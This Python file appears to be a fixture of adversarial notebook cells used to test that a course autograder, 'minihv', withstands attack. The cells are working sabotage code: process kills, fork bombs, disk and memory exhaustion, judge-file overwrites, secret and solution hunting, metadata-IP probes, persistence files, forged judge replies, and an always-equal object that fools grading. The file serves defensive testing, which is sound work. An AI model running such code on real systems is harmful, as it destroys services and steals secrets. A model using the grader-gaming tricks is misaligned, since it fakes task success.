"""Notebooks that attack who judges them: name -> the cell that does it. None may gain a point, and
none may change, stop or delay anything but itself."""

WRONG = "def count_misses(trace, entries, page_bits):\n    return 0, 0\n\nbecause = 'a'"

SEARCH = """
import os
found = [k for k in os.environ if "SECRET" in k or "TOKEN" in k]
for folder, folders, files in os.walk("/"):
    big = ("proc", "sys", "usr", "versions", "site-packages")
    folders[:] = [f for f in folders if f not in big]
    for name in files:
        try:
            text = open(os.path.join(folder, name), errors="replace").read()
        except OSError:
            continue
        if "BEGIN SOLUTION" in text or "EXERCISE = Exercise(" in text or "hunter2" in text:
            found.append(os.path.join(folder, name))
raise ValueError(f"found: {found}")"""

HOSTILE = {
    "rewrites_the_judge": """
import pathlib, sys, minihv
for place in {*sys.path, str(pathlib.Path(minihv.__file__).parents[1])}:
    for path in pathlib.Path(place or ".").glob("minihv/**/*.py"):
        try:
            path.write_text("raise SystemExit('written by a submission')")
        except OSError: pass""",
    "kills_everybody": "import os, signal\nos.kill(-1, signal.SIGKILL)",
    "kills_each": """
import os, signal
for pid in range(1, 1 << 16):
    if pid != os.getpid():
        try: os.kill(pid, signal.SIGKILL)
        except OSError: pass""",
    "stops_everybody": """
import os, signal
for pid in range(1, 1 << 16):
    try: os.kill(pid, signal.SIGSTOP)
    except OSError: pass""",
    "traces": """
import ctypes
libc = ctypes.CDLL(None)
got = [pid for pid in range(1, 1 << 16) if libc.ptrace(16, pid, None, None) == 0]
raise ValueError(f"found: {got}")""",
    "leaves_daemons": """
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.environ.clear()
        while True: time.sleep(0.01)
    os._exit(0)""",
    "forks_without_end": """
import os
while True:
    try: os.fork()
    except OSError: pass""",
    "eats_memory": "x = []\nwhile True: x.append(bytearray(64 << 20))",
    "fills_the_disk": """
import os
for place in ("/tmp", "/home/learner", "/cache", "/dev/shm", "/var/tmp", "."):
    try:
        with open(place + "/big", "wb") as f:
            while True: f.write(bytes(1 << 20))
    except OSError: pass""",
    "makes_files_without_end": """
import itertools
for n in itertools.count():
    open(f"/tmp/{n}", "w").close()""",
    "floods": "import os\nwhile True: os.write(2, b'x' * 65536)",
    "swallows_every_end": """
import signal
signal.signal(signal.SIGINT, signal.SIG_IGN)
while True:
    try:
        while True: str()
    except BaseException: pass""",
    "searches_for_secrets": SEARCH,
    "calls_home": """
import socket
got = []
for port in (22, 80, 443, 8888, 53):
    try:
        socket.create_connection(("127.0.0.1", port), 0.2)
        got.append(port)
    except OSError: pass
for host in ("1.1.1.1", "169.254.169.254"):
    try:
        socket.create_connection((host, 80), 0.5)
        got.append(host)
    except OSError: pass
raise ValueError(f"found: {got}")""",
    "leaves_something_for_the_next": """
import os, pathlib, sys
text = "import builtins, os\\nos._exit(3)"
for place in (*sys.path, os.path.expanduser("~"), "/tmp", "/cache", "/course",
              os.path.expanduser("~/.ipython/profile_default/startup")):
    for name in ("sitecustomize.py", "usercustomize.py", "evil.pth", ".pythonrc", "00.py"):
        try:
            os.makedirs(place, exist_ok=True)
            (pathlib.Path(place) / name).write_text(text)
        except OSError: pass""",
    "poisons_the_cache": """
import os, pathlib
for path in pathlib.Path(os.environ["MINIHV_CACHE"]).rglob("*"):
    if path.is_file():
        path.unlink()
        path.write_bytes(b"raise SystemExit('poison')")""",
    "forges_replies": """
import json, os, threading, time
def speak():
    while True:
        for fd in range(3, 20):
            reply = {"id": "0", "outcomes": [["value", [1, 1]]] * 20}
            try: os.write(fd, json.dumps(reply).encode() + b"\\n")
            except OSError: pass
        time.sleep(0.001)
threading.Thread(target=speak, daemon=True).start()""",
    "answers_too_deep": """
import minihv.course.judging.cells as c
c.json.dumps = lambda *_: '{"id":' * 300000""",
    "answers_of_its_own": """
import minihv.course.judging.cells as c
c.outcomes = lambda *_: [["value", [2, 2]]] * 12 + [["value", "b"]]""",
    "imports_the_checks": """
from minihv.chapters.ch01.checks import misses
from minihv.course.judging import judge""",
    "lies": """
class Liar(int):
    __eq__ = __lt__ = __le__ = __gt__ = __ge__ = lambda *_: True
    __sub__ = __rsub__ = __abs__ = lambda *_: 0
    __hash__ = int.__hash__
def count_misses(trace, entries, page_bits):
    return Liar(), Liar()""",
    "steers_the_terminal": """
class Nasty(Exception):
    def __str__(self): return "\\x1b]0;owned\\x07\\x1b[2J\\x9b31m" + chr(0x202e) + chr(0xd800)
raise Nasty""",
    "raises_what_cannot_be_shown": """
class Deaf(BaseException):
    def __str__(self): raise self
    __repr__ = __str__
raise Deaf""",
    "closes_all": "import os\nos.closerange(0, 4096)",
    "climbs_out": """
import os
got = []
for path in ("/proc/1/root", "/proc/1/cwd", "/proc/self/root/../..", "/proc/1/environ"):
    try: got.append(os.listdir(path) if os.path.isdir(path) else open(path).read())
    except OSError: pass
for fd in range(3, 256):
    try: got.append(os.readlink(f"/proc/self/fd/{fd}"))
    except OSError: pass
got = [g for g in map(str, got) if "solutions" in g or "hunter2" in g]
raise ValueError(f"found: {got}")""",
    "mounts": """
import ctypes
libc = ctypes.CDLL(None)
got = [libc.mount(b"x", b"/tmp", b"tmpfs", 0, None), libc.unshare(0x10000000),
       libc.umount2(b"/usr", 2), libc.umount2(b"/proc", 2)]
raise ValueError(f"found: {[k for k, r in enumerate(got) if r == 0]}")""",
    "sends_what_takes_long_to_close": """
import array, os, socket, stat, struct
l = socket.socket(); l.bind(("127.0.0.1", 0)); l.listen()
c = socket.create_connection(l.getsockname()); a, _ = l.accept(); c.setblocking(False)
try:
    while True: c.send(b"x" * 65536)
except BlockingIOError: pass
c.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 100000))
for fd in range(3, 32):
    try:
        if stat.S_ISSOCK(os.fstat(fd).st_mode) and fd not in (l.fileno(), c.fileno(), a.fileno()):
            s = socket.socket(fileno=os.dup(fd))
            what = array.array("i", [c.fileno()])
            s.sendmsg([b"\\n"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, what)])
    except OSError: pass""",
    "says_too_much": """
import minihv.course.judging.cells as c
c.LONGEST = 1 << 30
class NameError(Exception):
    def __str__(self): return "'x" + "\U00010400" + "a" * 1_900_000 + "'"
raise NameError""",
    "misses_what_nobody_asked": """
import minihv.course.judging.cells as c
c.outcomes = lambda *_: [["missing", "a" * 1_900_000]]""",
}
